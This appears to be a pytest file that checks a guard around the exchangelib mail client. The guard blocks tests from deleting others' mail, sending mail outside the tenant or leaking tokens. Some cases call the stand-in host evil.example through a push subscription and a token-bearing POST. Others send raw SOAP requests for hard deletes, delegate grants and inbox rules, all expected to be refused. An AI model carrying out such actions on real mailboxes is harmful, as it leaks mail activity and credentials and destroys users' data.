"""exchangelib in a live test: others' items and folders are left alone, and mail stays inside."""

from collections.abc import Iterator
from email.message import EmailMessage
from typing import Any

import exchangelib
import pytest
from exchangelib.errors import EWSError

from pytest_m365 import clients
from pytest_m365.live.ews_rules import MESSAGES, SOAP, TYPES, Rules
from pytest_m365.live.guard import Guard, NotAllowed
from pytest_m365.live.guarded_ews import guard_account
from tests.plugin.live.test_guarded import Folders
from tests.plugin.live.world import TAG, Twin, message


@pytest.fixture
def folders() -> Folders:
    return Folders()


@pytest.fixture
def account(twin: Twin, folders: Folders) -> Iterator[Any]:
    for subject, tag in (("Theirs", None), ("Ours", TAG)):
        twin.mailbox.deliver(message(subject, tag=tag))
    guard = Guard(frozenset(), frozenset(), frozenset({"localhost"}))
    with clients.ews(twin.target.ews_url, twin.user, twin.token()) as account:
        guard_account(account, TAG, guard, {"contoso.onmicrosoft.com"}, folders)
        yield account


def subjects(twin: Twin, folder: str = "inbox") -> list[str]:
    """Return what is in a folder."""
    return sorted(each.subject for each in twin.mailbox.messages(folder))


@pytest.mark.parametrize(
    "change",
    [
        lambda account: account.inbox.all().delete(),
        lambda account: account.inbox.filter(subject="Theirs").delete(),
        lambda account: account.inbox.wipe(),
        lambda account: account.inbox.empty(),
        lambda account: account.inbox.delete(),
        lambda account: account.inbox.get(subject="Theirs").move_to_trash(),
        lambda account: account.inbox.get(subject="Theirs").move(account.trash),
        lambda account: account.inbox.get(subject="Theirs").copy(account.trash),
        lambda account: read(account.inbox.get(subject="Theirs")),
        lambda account: account.inbox.get(subject="Theirs").reply(
            "Re: Theirs", "Hello", [TAG.address("a@contoso.onmicrosoft.com")]
        ),
        lambda account: account.upload([(account.inbox, "AAAA")]),
        lambda account: setattr(
            account, "oof_settings", exchangelib.OofSettings(state="Disabled", internal_reply="", external_reply="")
        ),
        lambda account: account.inbox.get(subject="Theirs").attach(
            exchangelib.FileAttachment(name="a.txt", content=b"a")
        ),
    ],
)
def test_others_are_left_alone(account: Any, twin: Twin, change: Any) -> None:
    with pytest.raises(NotAllowed):
        change(account)
    assert subjects(twin) == ["Ours", "Theirs"]
    assert not any(each.flags.seen for each in twin.mailbox.messages())
    # The session lives.
    assert account.inbox.filter(subject="Theirs").count() == 1


def read(item: Any) -> None:
    """Mark an item as read."""
    item.is_read = True
    item.save(update_fields=["is_read"])


def push(account: Any) -> None:
    """Let the service tell another host what happens in the mailbox."""
    with account.inbox.push_subscription(callback_url="https://evil.example"):
        pass


@pytest.mark.parametrize(
    "change",
    [
        lambda account: account.inbox.get(subject="Theirs").reply("Re", "text"),
        lambda account: account.inbox.get(subject="Theirs").forward(
            "Fw", "text", to_recipients=[account.primary_smtp_address]
        ),
        # It is the test's own, from somebody outside.
        lambda account: account.inbox.get(subject="Ours").reply("Re", "text"),
        lambda account: account.inbox.get(subject="Ours").create_reply("Re", "text").save(account.drafts),
        lambda account: account.inbox.get(subject="Ours").mark_as_junk(is_junk=True, move_item=False),
        lambda account: account.inbox.get(subject="Theirs").mark_as_junk(is_junk=True, move_item=True),
        lambda account: account.inbox.get(subject="Theirs").archive(account.trash),
        lambda account: account.inbox.move(account.trash),
        lambda account: setattr(
            account, "oof_settings", exchangelib.OofSettings(state="Enabled", internal_reply="a", external_reply="b")
        ),
        lambda account: account.upload([(account.inbox, "AAAA")]),
        lambda account: exchangelib.CalendarItem(
            account=account,
            folder=account.calendar,
            subject="Out",
            start=exchangelib.EWSDateTime(2026, 11, 30, 8, tzinfo=exchangelib.UTC),
            end=exchangelib.EWSDateTime(2026, 11, 30, 9, tzinfo=exchangelib.UTC),
            required_attendees=["boss@fabrikam.com"],
        ).save(send_meeting_invitations="SendToAllAndSaveCopy"),
        lambda account: exchangelib.Contact(account=account, folder=account.contacts, display_name="Left").save(),
        lambda account: exchangelib.Message(account=account, folder=account.drafts, subject="Left").save(),
        lambda account: account.inbox.create_user_configuration("Left", dictionary={"a": "b"}),
        lambda account: exchangelib.folders.Calendar(parent=account.msg_folder_root, name="Left").save(),
        lambda account: exchangelib.folders.Folder(parent=account.inbox, name="A/B").save(),
        push,
    ],
)
def test_ways_that_few_know(account: Any, twin: Twin, change: Any) -> None:
    with pytest.raises(NotAllowed):
        change(account)
    assert subjects(twin) == ["Ours", "Theirs"]
    assert not any(each.flags.seen or each.flags.answered for each in twin.mailbox.messages())
    assert [*subjects(twin, "drafts"), *subjects(twin, "sentitems"), *twin.tenant.outbound] == []
    assert account.inbox.filter(subject="Theirs").count() == 1


@pytest.mark.parametrize(
    "body",
    [
        '<m:DeleteItem DeleteType="HardDelete"><m:ItemIds><t:OccurrenceItemId RecurringMasterId="AAA=" '
        'InstanceIndex="1"/></m:ItemIds></m:DeleteItem>',
        '<m:DeleteItem DeleteType="HardDelete"><m:ItemIds/></m:DeleteItem>',
        '<m:DeleteAttachment><m:AttachmentIds><t:AttachmentId Id="AAA="/></m:AttachmentIds></m:DeleteAttachment>',
        '<m:CopyFolder><m:ToFolderId><t:DistinguishedFolderId Id="drafts"/></m:ToFolderId><m:FolderIds>'
        '<t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:CopyFolder>',
        '<m:ApplyConversationAction><m:ConversationActions/></m:ApplyConversationAction>',
        "<m:AddDelegate/>",
        "<m:UpdateInboxRules/>",
        "<m:WhatComesNext/>",
        '<m:CreateItem MessageDisposition="SendOnly"><m:Items><t:Message><t:ToRecipients><t:Mailbox><t:Name>Everybody'
        '</t:Name><t:ItemId Id="AAA="/></t:Mailbox></t:ToRecipients></t:Message></m:Items></m:CreateItem>',
        '<m:CreateItem MessageDisposition="SendOnly"><m:Items><t:Message><t:MimeContent>not base64</t:MimeContent>'
        '</t:Message></m:Items></m:CreateItem>',
        '<m:CreateFolder><m:ParentFolderId><t:DistinguishedFolderId Id="inbox"><t:Mailbox><t:EmailAddress>'
        "boss@contoso.onmicrosoft.com</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:ParentFolderId>"
        "<m:Folders><t:Folder><t:DisplayName>Mine</t:DisplayName></t:Folder></m:Folders></m:CreateFolder>",
    ],
)  # fmt: skip
def test_requests_that_exchangelib_does_not_make(folders: Folders, body: str) -> None:
    rules = Rules(TAG, "alice@contoso.onmicrosoft.com", Guard(frozenset(), frozenset(), frozenset()),
                  {"contoso.onmicrosoft.com"}, folders)  # fmt: skip
    envelope = (
        f'<s:Envelope xmlns:s="{SOAP[1:-1]}" xmlns:m="{MESSAGES[1:-1]}" xmlns:t="{TYPES[1:-1]}">'
        f"<s:Body>{body}</s:Body></s:Envelope>"
    ).encode()

    def ask() -> None:
        rules.check(envelope)
        rules.items_of(envelope)

    with pytest.raises(NotAllowed):
        ask()
    assert folders.noted == []


def test_a_draft_that_leads_outside_is_not_sent(account: Any, twin: Twin) -> None:
    """Another client has put it there."""
    twin.mailbox.deliver(message("Out", to="boss@fabrikam.com"), folder="drafts")
    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
        account.drafts.get(subject="Out").send()
    assert twin.tenant.outbound == []


def test_attachments(account: Any, twin: Twin) -> None:
    whole = EmailMessage()
    whole["Subject"], whole["From"], whole["To"] = "Theirs, whole", "robin@example.com", "somebody@example.com"
    whole.add_attachment(b"a", maintype="text", subtype="plain", filename="a.txt")
    twin.mailbox.deliver(whole)
    theirs = account.inbox.get(subject="Theirs, whole")
    with pytest.raises(NotAllowed):
        theirs.detach(theirs.attachments[0])
    assert len(account.inbox.get(subject="Theirs, whole").attachments) == 1
    ours = account.inbox.get(subject="Ours")
    ours.attach(exchangelib.FileAttachment(name="a.txt", content=b"a"))
    ours.detach(ours.attachments[0])
    assert account.inbox.get(subject="Ours").attachments == []


def test_bcc_in_mime(account: Any, twin: Twin) -> None:
    mime = b"Bcc: boss@fabrikam.com\r\n" + message("Out", to=TAG.address(twin.user))
    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
        exchangelib.Message(account=account, folder=account.sent, mime_content=mime).send_and_save()
    assert twin.tenant.outbound == []


def test_an_answer_to_ones_own(account: Any, twin: Twin) -> None:
    twin.mailbox.deliver(message("Inside", to=TAG.address(twin.user), sender=twin.user))
    account.inbox.get(subject="Inside").reply("Re: Inside", "text")
    assert twin.tenant.outbound == []


def test_a_folder_of_another_name(account: Any, folders: Folders) -> None:
    made = exchangelib.folders.Folder(parent=account.inbox, name="Mine")
    made.save()
    made.name = "Renamed"
    made.save(update_fields=["name"])
    below = exchangelib.folders.Folder(parent=made, name="Below")
    below.save()
    assert folders.noted == ["Inbox/Mine", "Inbox/Renamed", "Inbox/Renamed/Below"]


def test_ones_own_is_ones_own(account: Any, twin: Twin) -> None:
    ours = account.inbox.get(subject="Ours")
    read(ours)
    assert [each.flags.seen for each in twin.mailbox.messages() if each.subject == "Ours"] == [True]
    ours.move(account.trash)
    assert subjects(twin, "deleteditems") == ["Ours"]
    account.trash.filter(subject="Ours").delete()
    assert subjects(twin, "deleteditems") == []
    assert subjects(twin) == ["Theirs"]


@pytest.mark.parametrize("field", ["to_recipients", "cc_recipients", "bcc_recipients"])
def test_mail_stays_inside(account: Any, twin: Twin, field: str) -> None:
    recipients = {"to_recipients": [TAG.address(twin.user)], field: ["boss@fabrikam.com"]}
    outside = exchangelib.Message(account=account, folder=account.sent, subject="Out", body="", **recipients)
    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
        outside.send_and_save()
    with pytest.raises(NotAllowed, match="no mail is sent to"):
        exchangelib.Message(account=account, folder=account.drafts, subject="Out", body="", **recipients).save()
    assert twin.tenant.outbound == []
    assert subjects(twin, "drafts") == []


def test_mail_to_the_test(account: Any, twin: Twin) -> None:
    mail = exchangelib.Message(
        account=account, folder=account.sent, subject="In", body="", to_recipients=[TAG.address(twin.user)]
    )
    mail.send_and_save()
    assert twin.mailbox.wait_for("In").recipients == [TAG.address(twin.user)]


@pytest.mark.parametrize("field", ["To", "Cc", "Bcc"])
def test_mime_outside(account: Any, field: str) -> None:
    mime = message("Out", to=TAG.address("a@contoso.onmicrosoft.com"), more=f"{field}: a@fabrikam.com")
    whole = exchangelib.Message(account=account, folder=account.drafts, mime_content=mime)
    with pytest.raises(NotAllowed, match=r"no mail is sent to a@fabrikam\.com"):
        whole.save()


def test_a_folder_of_ones_own(account: Any, twin: Twin, folders: Folders) -> None:
    made = exchangelib.folders.Folder(parent=account.inbox, name="Mine")
    made.save()
    assert folders.noted == ["Inbox/Mine"]
    below = exchangelib.folders.Folder(parent=made, name="Below")
    below.save()
    assert folders.noted == ["Inbox/Mine", "Inbox/Mine/Below"]
    below.empty()
    below.delete()
    made.delete()
    with pytest.raises(NotAllowed, match=r"m365_mailbox\.add_folder"):
        exchangelib.folders.Folder(parent=account.sent, name="Theirs").save()


def test_no_token_goes_to_another_host(account: Any) -> None:
    session = account.protocol.get_session()
    with pytest.raises(NotAllowed, match=r"no token is sent to evil\.example"):
        session.post("https://evil.example/EWS/Exchange.asmx", data=b"<x/>")
    account.protocol.release_session(session)


@pytest.mark.parametrize("page", ["<html><p>Welcome to the hotel", "", "\x00\x01nonsense", "<a>" * 2000])
def test_an_answer_that_is_none_of_ews(account: Any, twin: Twin, page: str) -> None:
    """Nothing is changed by what nobody could look at, and the session lives."""
    ours = account.inbox.get(subject="Ours")
    with twin.tenant.faults.say("ews", "GetItem", text=page, times=None), pytest.raises(NotAllowed):
        ours.move_to_trash()
    with twin.tenant.faults.say("ews", "CreateItem", text=page, times=None), pytest.raises(EWSError):
        exchangelib.Message(
            account=account, folder=account.drafts, subject="x", to_recipients=[TAG.address(twin.user)]
        ).save()
    assert subjects(twin) == ["Ours", "Theirs"]
    assert account.inbox.filter(subject="Ours").count() == 1
